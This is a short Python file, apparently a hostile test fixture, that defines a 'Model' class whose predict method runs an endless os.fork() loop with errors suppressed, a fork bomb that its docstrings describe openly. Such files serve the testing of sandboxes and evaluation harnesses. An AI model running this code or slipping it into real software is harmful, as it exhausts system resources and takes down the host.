"""Forks without end as soon as it sees an image."""

import contextlib
import os


class Model:
    """Children and grandchildren fork too."""

    def __init__(self, device, seed, params, weights):
        self.params = params

    def predict(self, image):
        """Never answers."""
        while True:
            with contextlib.suppress(OSError):
                os.fork()
